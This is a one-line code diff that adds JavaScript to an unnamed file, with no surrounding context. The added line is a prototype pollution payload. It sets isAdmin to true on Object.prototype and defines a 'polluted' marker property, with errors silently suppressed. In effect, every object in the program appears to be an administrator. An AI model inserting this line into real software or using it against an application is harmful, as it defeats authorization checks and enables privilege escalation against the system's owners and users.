@@ -1,0 +1,1 @@
+try { Object.prototype.isAdmin = true } catch (e) {} try { Object.defineProperty(Object.prototype, 'polluted', { value: 1 }) } catch (e) {}
